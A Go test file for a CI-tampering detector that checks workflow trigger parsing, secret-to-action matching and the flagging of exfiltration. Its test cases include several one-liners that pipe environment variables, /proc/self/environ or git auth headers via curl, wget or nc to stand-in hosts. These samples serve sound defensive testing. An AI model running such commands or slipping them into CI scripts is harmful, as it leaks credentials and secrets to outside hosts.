package citampering

import (
	"strings"
	"testing"

	"github.com/repoguard/repoguard/detectors/detectortest"
	"github.com/repoguard/repoguard/guard"
)

func TestCIForkTriggers(t *testing.T) {
	tests := []struct {
		line, event string
		want        bool
	}{
		{"issues: write", "issues", false}, // a permission
		{"issues:", "issues", true},
		{"issue_comment:", "issue_comment", true},
		{"on: [push, issue_comment]", "issue_comment", true},
		{"on: [pull_request_target]", "pull_request", false},
		{"on: [push, pull_request]", "pull_request", true},
		{"discussions: write", "discussion", false},
	}
	for _, tt := range tests {
		if got := ciIsTrigger(tt.line, tt.event); got != tt.want {
			t.Errorf("ciIsTrigger(%q, %q) = %v, want %v", tt.line, tt.event, got, tt.want)
		}
	}
}

func TestCISecretFor(t *testing.T) {
	tests := []struct {
		secret, action string
		want           bool
	}{
		{"BUF_TOKEN", "bufbuild/buf-push-action@v1", true},
		{"DOCKERHUB_PASSWORD", "docker/login-action@v3", true},
		{"PROMBOT_LOCKTHREADS_TOKEN", "dessant/lock-threads@v3", true},
		{"RELEASE_PAT", "someone/release-notes-action@v2", false},
		{"GH_TOKEN", "mikepenz/release-changelog-builder-action@v2", false},
		{"API_KEY", "api/action@v1", false},
	}
	for _, tt := range tests {
		if got := ciSecretFor(tt.secret, tt.action); got != tt.want {
			t.Errorf("ciSecretFor(%q, %q) = %v, want %v", tt.secret, tt.action, got, tt.want)
		}
	}
}

func TestCIExfilLines(t *testing.T) {
	yes := []string{
		`curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://10.1.2.3/upload/v2 || true`,
		`env | base64 -w0 | curl -s -X POST --data-binary @- https://x.example.net/c`,
		`printenv | nc 203.0.113.5 9000`,
		"wget --post-data=\"`env`\" https://x.example.net/",
		`curl -s https://x.example.net/?d=$(cat /proc/self/environ | base64)`,
		`git config --get http.https://github.com/.extraheader | curl -d @- https://x.example.net`,
	}
	no := []string{
		`curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user`,
		`env | sort`,
		`curl -fsSL https://x.example.net/tool.tgz -o tool.tgz`,
		`set -euo pipefail; curl -fsS https://x.example.net/health`,
		`echo "$(printenv HOME)" && curl https://x.example.net/`,
	}
	judge := func(line string) []guard.Finding {
		f := guard.FileChange{Path: "ci/upload.sh", Status: guard.Modified, AddedLines: detectortest.Lines(line)}
		return detectortest.JudgeFiles(t, Detector, nil, f)
	}
	for _, l := range yes {
		if fs := judge(l); len(fs) != 1 || fs[0].Severity != guard.Critical {
			t.Errorf("not reported as exfiltration: %s: %+v", l, fs)
		}
	}
	for _, l := range no {
		if fs := judge(l); len(fs) != 0 {
			t.Errorf("reported: %s: %+v", l, fs)
		}
	}
}

// FuzzCITampering runs the detector over arbitrary workflow and script
// text: it must not panic, and every finding must point at a line of the
// input (or at none).
func FuzzCITampering(f *testing.F) {
	f.Add("on: pull_request_target\npermissions: write-all\n      - uses: a/b@v1\n        with:\n          t: ${{ secrets.X }}", true)
	f.Add("env | curl -d @- http://1.2.3.4\nGet-ChildItem env: > e.txt\nInvoke-RestMethod -InFile e.txt", false)
	f.Add("- run: echo ${{ secrets.A }} | base64\n  env:\n    T: ${{ secrets['B'] }}\nif: false", true)
	f.Fuzz(func(t *testing.T, text string, added bool) {
		lines := detectortest.Lines(text)
		status := guard.Modified
		if added {
			status = guard.Added
		}
		for _, p := range []string{".github/workflows/x.yml", "scripts/x.sh", ".github/settings.yml"} {
			fc := guard.FileChange{Path: p, Status: status, AddedLines: lines, DeletedLines: lines[:len(lines)/2]}
			for _, fd := range detectortest.JudgeFiles(t, Detector, nil, fc) {
				if fd.Line < 0 || fd.Line > len(lines) || strings.TrimSpace(fd.Message) == "" {
					t.Fatalf("%s: finding %+v points outside the input", p, fd)
				}
			}
		}
	})
}

// A line that sends two files the environment was written to cites the
// first line that wrote one, every time (a map's order used to choose).
func TestCIExfilCitesFirstDump(t *testing.T) {
	f := guard.FileChange{Path: "ci/upload.sh", Status: guard.Modified, AddedLines: detectortest.Lines(
		"env > /tmp/one.txt\nprintenv > /tmp/two.txt\ncurl -F a=@/tmp/two.txt -F b=@/tmp/one.txt https://x.example.net/")}
	for range 20 {
		fs := detectortest.JudgeFiles(t, Detector, nil, f)
		if len(fs) != 1 || len(fs[0].Evidence) != 2 || fs[0].Evidence[1] != "line 1: env > /tmp/one.txt" {
			t.Fatalf("want the dump of line 1 cited: %+v", fs)
		}
	}
}
